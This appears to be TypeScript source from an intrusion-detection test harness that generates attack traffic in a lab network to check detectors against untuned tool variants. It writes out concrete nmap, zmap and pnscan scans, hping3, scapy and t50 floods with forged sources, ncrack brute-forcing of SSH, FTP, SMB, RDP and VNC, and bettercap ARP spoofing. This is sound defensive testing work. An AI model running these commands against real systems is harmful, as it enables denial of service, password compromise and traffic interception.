/** The same classes by tools and options that the detectors were not tuned with. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Site } from '../site.ts';
import { type Attack, inBursts, type Plan, serversOf, single } from './attack.ts';

const scanSpeeds = { fast: [100, 1500], medium: [10, 40], slow: [0.2, 0.5] } as const;
const floodSpeeds = { fast: [1000, 5000], medium: [100, 300], slow: [50, 70] } as const;
const guessSpeeds = { fast: [4, 16], medium: [1, 3], slow: [0.3, 0.6] } as const;

const countAt = (rate: number, least: number): number => Math.round(Math.min(300, Math.max(least, rate * 12)));

/** Ports of a host by nmap with `options` that make another packet of each probe. */
function nmapForm(name: string, options: string): Attack {
  return {
    class: `scan.${name}`,
    alerts: ['scan.vertical', 'scan.distributed'],
    technique: 'T1046',
    tool: 'nmap',
    needs: ['nmap'],
    speeds: scanSpeeds,
    plan(site, rate) {
      const [first, count] = [site.random.whole(1, 900), countAt(rate, 14)];
      const pace =
        rate >= 5 ? `--min-rate ${Math.round(rate)} --max-rate ${Math.round(rate)}` : `--scan-delay ${Math.round(1000 / rate)}ms`;
      const target = site.address('web');
      const command = `nmap ${options} -n -Pn --disable-arp-ping -p ${first}-${first + count - 1} ${pace} --max-retries 1 ${target}`;
      return single('evil', command, [site.address('evil')], [target], Math.ceil(count / rate) + 8);
    },
  };
}

/** A network behind the gateway in which nobody answers; zmap asks its addresses in an order of its own. */
function zmap(name: string, alert: string, probe: string): Attack {
  return {
    class: `sweep.${name}`,
    alerts: [alert],
    technique: 'T1046',
    tool: 'zmap',
    needs: ['zmap'],
    speeds: { fast: [50, 800], medium: [5, 20] },
    plan(site, rate) {
      const count = countAt(rate, 12);
      const config = join(site.network.directory, 'zmap');
      writeFileSync(config, '');
      const command =
        `zmap -C ${config} -b ${config} -q -o /dev/zero ${probe} -i eth0 -S ${site.address('evil')} -G ${site.mac('gateway')} ` +
        `-r ${Math.round(rate)} -n ${count} -c 1 -e ${site.random.whole(1, 9999)} 10.250.0.0/20`;
      return single('evil', command, [site.address('evil')], ['10.250.0.0/20'], Math.ceil(count / rate) + 8);
    },
  };
}

/** One host, by a script of scapy that sends `packet` (an expression with `i`) so many times a second. */
function scapy(
  name: string,
  alerts: readonly string[],
  speeds: Attack['speeds'],
  packet: (site: Site) => string,
  isForged = false,
): Attack {
  return {
    class: name,
    alerts,
    technique: name.startsWith('flood') ? 'T1498.001' : 'T1046',
    tool: 'scapy',
    needs: ['scapy'],
    speeds,
    plan(site, rate) {
      const count = name.startsWith('flood') ? Math.round(Math.min(3000, Math.max(400, rate * 4))) : countAt(rate, 14);
      const target = site.address('web');
      const script = `import random, time
from scapy.all import *
random.seed(${site.random.whole(1, 9999)})
packets = [bytes(Ether(src='${site.mac('evil')}', dst='${site.mac('web')}') / ${packet(site)}) for i in range(${count})]
link = conf.L2socket(iface='eth0')
begin = time.time()
for i, packet in enumerate(packets):
    time.sleep(max(0, begin + i / ${rate} - time.time()))
    link.outs.send(packet)
`;
      return {
        jobs: [{ host: 'evil', argv: ['/usr/bin/python3', '-c', script] }],
        attackers: isForged ? [] : [site.address('evil')],
        victims: [target],
        seconds: Math.ceil(count / rate) + 30,
      };
    },
  };
}

/** As fast and as long as the floods of `floods.ts`. */
function hping(name: string, alerts: readonly string[], options: string, isForged = false): Attack {
  return {
    class: `flood.${name}`,
    alerts,
    technique: 'T1498.001',
    tool: 'hping3',
    needs: ['hping3'],
    speeds: floodSpeeds,
    plan(site, rate) {
      const target = site.address('web');
      const count = Math.round(Math.min(8000, Math.max(500, rate * 4)));
      const command = `hping3 ${options} -i u${Math.round(1e6 / rate)} -c ${count} -n -q ${target}`;
      return single('evil', command, isForged ? [] : [site.address('evil')], [target], Math.ceil(count / rate) + 6);
    },
  };
}

/** Where ncrack looks for a service at another port than its servers have. */
const portOf: Readonly<Record<string, string>> = { vnc: ':5901' };

function ncrack(service: 'ssh' | 'ftp' | 'smb' | 'rdp' | 'vnc'): Attack {
  return {
    class: `brute.${service}`,
    alerts: ['brute-force.password', 'brute-force.spray'],
    technique: 'T1110.001',
    tool: 'ncrack',
    needs: ['ncrack', ...(serversOf[service] ?? [])],
    speeds: guessSpeeds,
    plan(site, rate) {
      const words = join(site.network.directory, 'ncrack-words');
      writeFileSync(words, Array.from({ length: 80 }, (_, i) => `guess${i}\n`).join(''));
      const most = Math.max(1, Math.round(rate / 2));
      const command = `ncrack -v --user root -P ${words} -g CL=${most},cd=${Math.round((1000 * most) / rate)}ms,at=${site.random.whole(1, 3)} ${service}://${site.address('files')}${portOf[service] ?? ''}`;
      // xrdp lets each wait for twenty seconds.
      const seconds = service === 'rdp' ? 80 : 40;
      return single('evil', command, [site.address('evil')], [site.address('files')], seconds);
    },
  };
}

/** ARP of the whole network, from one address to the next. */
function netdiscover(site: Site, rate: number): Plan {
  const command = `netdiscover -P -N -d -i eth0 -r ${site.net}.0/24 -c 1 -s ${Math.max(1, Math.round(1000 / rate))}`;
  return single('evil', command, [site.mac('evil')], [`${site.net}.0/24`], 30);
}

/** It learns who is there, then answers for the gateway. */
function bettercap(site: Site): Plan {
  const commands = `set arp.spoof.targets ${site.address('alice')}; arp.spoof on; sleep 12; quit`;
  return {
    jobs: [
      { host: 'alice', argv: ['ping', '-q', '-c', '20', '-i', '0.5', site.address('gateway')] },
      {
        host: 'evil',
        argv: [
          'timeout',
          '20',
          'bettercap',
          '-no-history',
          '-no-colors',
          '-iface',
          'eth0',
          '-gateway-override',
          site.address('gateway'),
          '-eval',
          commands,
        ],
      },
    ],
    attackers: [site.mac('evil')],
    victims: [site.address('gateway'), site.address('alice')],
    seconds: 24,
  };
}

export const otherTools: readonly Attack[] = [
  nmapForm('window', '-sW'),
  nmapForm('flags.odd', '--scanflags URGPSHSYN'),
  nmapForm('flags.synfin', '--scanflags SYNFIN'),
  nmapForm('flags.synack', '--scanflags SYNACK'),
  nmapForm('sctp', '-sY'),
  nmapForm('source-port', '-sS -g 53 --data-length 24 --ttl 41'),
  nmapForm('versions', '-sV --version-light'),
  {
    class: 'scan.connect',
    alerts: ['scan.vertical'],
    technique: 'T1046',
    tool: 'pnscan',
    needs: ['pnscan'],
    speeds: { fast: [100, 1000] },
    // As fast as its workers are answered.
    plan: (site) => single('evil', `pnscan -t500 -n8 ${site.address('web')} 200:500`, [site.address('evil')], [site.address('web')], 15),
  },
  zmap('syn', 'scan.horizontal', '-M tcp_synscan -p 8443'),
  zmap('udp', 'scan.horizontal', '-M udp -p 1900 --probe-args=text:hello'),
  zmap('ping', 'scan.ping', '-M icmp_echoscan'),
  {
    class: 'sweep.connect',
    alerts: ['scan.horizontal'],
    technique: 'T1046',
    tool: 'pnscan',
    needs: ['pnscan'],
    speeds: { fast: [50, 800] },
    plan: (site) => single('evil', 'pnscan -t500 -n20 10.251.7.0/25 3389', [site.address('evil')], ['10.251.7.0/24'], 15),
  },
  {
    class: 'sweep.arp',
    alerts: ['scan.arp'],
    technique: 'T1018',
    tool: 'netdiscover',
    needs: ['netdiscover'],
    speeds: { fast: [50, 800], medium: [5, 20] },
    plan: netdiscover,
  },
  scapy(
    'scan.syn.random',
    ['scan.vertical'],
    scanSpeeds,
    (site) =>
      `IP(src='${site.address('evil')}', dst='${site.address('web')}', ttl=random.randint(30, 250)) / TCP(sport=random.randint(1024, 65535), dport=random.randint(1000, 60000), flags='S', seq=random.getrandbits(32))`,
  ),
  scapy(
    'scan.udp.random',
    ['scan.vertical'],
    scanSpeeds,
    (site) =>
      `IP(src='${site.address('evil')}', dst='${site.address('web')}') / UDP(sport=random.randint(1024, 65535), dport=random.randint(1000, 60000)) / bytes(i % 60)`,
  ),
  scapy(
    'flood.syn.subnet',
    ['flood.syn'],
    floodSpeeds,
    (site) =>
      `IP(src='203.0.113.%d' % random.randint(1, 254), dst='${site.address('web')}') / TCP(sport=random.randint(1024, 65535), dport=80, flags='S', seq=random.getrandbits(32))`,
    true,
  ),
  scapy(
    'flood.udp.big',
    ['flood.udp'],
    floodSpeeds,
    (site) =>
      `IP(src='${site.address('evil')}', dst='${site.address('web')}') / UDP(sport=random.randint(1024, 65535), dport=random.choice([80, 443, 8080])) / bytes(1100)`,
  ),
  scapy(
    'flood.ack.bot',
    ['flood.ack'],
    floodSpeeds,
    (site) =>
      `IP(src='${site.address('evil')}', dst='${site.address('web')}') / TCP(sport=random.randint(1024, 65535), dport=443, flags='PA', seq=random.getrandbits(32), ack=random.getrandbits(32)) / bytes(200)`,
  ),
  {
    class: 'flood.syn.forged',
    alerts: ['flood.syn'],
    technique: 'T1498.001',
    tool: 't50',
    needs: ['t50'],
    speeds: { fast: [2000, 5000], medium: [300, 1000] },
    plan(site, rate) {
      const target = site.address('web');
      return inBursts((packets) => `t50 ${target} --protocol TCP -S --dport 80 --threshold ${packets}`, rate, [target]);
    },
  },
  hping('syn.flow', ['flood.syn'], '-S -p 80 -s 5000 -k'),
  hping('syn.ports', ['flood.syn', 'scan.distributed'], '-S -p ++1 --rand-source', true),
  hping('ack.flow', ['flood.ack'], '-A -p 80 -s 5000 -k'),
  hping('fin.forged', ['flood.ack'], '-F -p 80 --rand-source', true),
  hping('rst.forged', ['flood.ack'], '-R -p 80 --rand-source', true),
  hping('udp.fragmented', ['flood.udp'], '--udp -p 9 -d 3000'),
  hping('icmp.big', ['flood.icmp'], '--icmp -d 1400'),
  ncrack('ssh'),
  ncrack('ftp'),
  ncrack('smb'),
  ncrack('rdp'),
  ncrack('vnc'),
  {
    class: 'arp.spoof',
    alerts: ['arp.spoof'],
    technique: 'T1557.002',
    tool: 'bettercap',
    needs: ['bettercap'],
    speeds: { fast: [1, 2] },
    plan: bettercap,
  },
];
